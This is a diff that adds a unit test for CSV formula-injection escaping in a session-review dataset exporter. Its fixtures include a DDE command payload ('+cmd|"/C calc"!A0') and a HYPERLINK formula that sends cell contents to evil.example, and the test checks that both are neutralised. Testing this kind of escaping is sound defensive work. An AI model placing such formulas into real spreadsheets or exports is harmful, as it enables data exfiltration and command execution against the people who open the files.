@@ -157,6 +157,42 @@ describe('datasets from reviews', () => {
     assert.equal(csvField('say "hi"\nbye'), '"say ""hi""\nbye"');
   });
 
+  it('the evaluation CSV: a field a spreadsheet would evaluate as a formula starts with an apostrophe', async () => {
+    // OWASP's CSV injection triggers: =, +, -, @, a tab, a carriage return first; the apostrophe inside the quotes.
+    assert.equal(csvField('=1+1'), "'=1+1");
+    assert.equal(csvField('+cmd|"/C calc"!A0'), `"'+cmd|""/C calc""!A0"`);
+    assert.equal(csvField('-2+3'), "'-2+3");
+    assert.equal(csvField('@SUM(1)'), "'@SUM(1)");
+    assert.equal(csvField('\t=1+1'), "'\t=1+1");
+    assert.equal(csvField('\r=1+1'), `"'\r=1+1"`);
+    assert.equal(csvField('=HYPERLINK("https://evil.example/?"&B2,"Open")'), `"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")"`);
+    // Only the first character counts: text with these characters elsewhere is written as it is.
+    for (const plain of ['a=b', '2-1', 'ana@example.com', '1', '', 'x\t=y']) assert.equal(csvField(plain), plain);
+
+    // Through the export: the user's message, the reference and the session id are text anyone may have written (tags
+    // cannot start with one of these characters).
+    const path = join(tmp.dir, 'formulas.db');
+    const question = '=HYPERLINK("https://evil.example/?"&B2,"Open")';
+    const s = new AdvancedSQLiteSession({ sessionId: '@s', dbPath: path, createTables: true });
+    await s.addItems([user(question), answer('-2+3')] as never);
+    s.close();
+    const formulas = openSessionDatabase(path);
+    const store = ReviewStore.open(join(tmp.dir, 'formula-reviews.db'));
+    try {
+      store.setTurnReview({ sessionId: '@s', branchId: 'main', turn: 1, turnKey: K(question) }, { verdict: 'good', tags: ['maths'] });
+      const out = join(tmp.dir, 'formulas.csv');
+      await exportDataset(formulas, store.exportData(), out, { format: 'eval', encoding: 'csv' });
+      assert.deepEqual(readFileSync(out, 'utf8').split('\r\n'), [
+        'input,reference,tags,kind,session_id,branch_id,turn',
+        `"'=HYPERLINK(""https://evil.example/?""&B2,""Open"")",'-2+3,maths,good-turn,'@s,main,1`,
+        '',
+      ]);
+    } finally {
+      formulas.close();
+      store.close();
+    }
+  });
+
   it('filters by tag and by model, and leaves no file when the export fails', async () => {
     const { lines } = await write('eval', { tags: ['weather'] });
     assert.deepEqual(
